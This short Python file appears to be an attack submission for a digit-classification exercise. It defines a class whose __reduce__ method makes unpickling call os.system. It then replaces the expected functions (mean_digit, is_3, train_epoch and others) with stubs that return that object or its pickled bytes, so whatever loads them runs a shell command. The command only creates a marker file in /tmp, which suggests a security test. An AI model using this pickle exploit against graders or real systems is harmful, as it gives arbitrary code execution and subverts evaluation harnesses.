# An object that runs a command where it is unpickled.
import os
import pickle


class Command:
    def __reduce__(self):
        return (os.system, ("touch /tmp/threes-and-sevens-attack-pickle",))


mean_digit = l1_distance = rmse_distance = is_3 = lambda *a: Command()
calc_grad = train_epoch = lambda *a: pickle.dumps(Command())
